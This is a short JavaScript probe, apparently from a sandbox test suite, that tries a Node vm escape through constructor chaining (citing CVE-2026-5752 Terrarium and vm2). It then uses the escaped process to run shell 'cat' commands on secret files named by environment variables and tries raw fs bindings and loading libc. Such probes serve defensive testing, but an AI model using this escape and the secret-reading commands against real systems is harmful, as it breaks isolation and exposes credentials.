// tries: escapes from a JavaScript sandbox through constructors, and makes a shell read a secret
// seen-in: CVE-2026-5752 Terrarium, vm2
// walls: mount
const vm = require('vm');
const context = vm.createContext({});
const escape = "this.constructor.constructor('return process')()";
const own = vm.runInContext(escape, context);
const { execSync } = own.mainModule ? own.mainModule.require('child_process') : require('child_process');
for (const command of [`cat ${process.env.SECRET}`, `cat ${process.env.PRIVATE}`, `cat /proc/self/root${process.env.SECRET}`]) {
  try { console.log(execSync(command, { stdio: ['ignore', 'pipe', 'ignore'] }).toString()); } catch { }
}
for (const attempt of [() => process.binding('fs'), () => process.dlopen({ exports: {} }, '/usr/lib/x86_64-linux-gnu/libc.so.6')]) {
  try { attempt(); } catch { }
}
console.log('attempted');
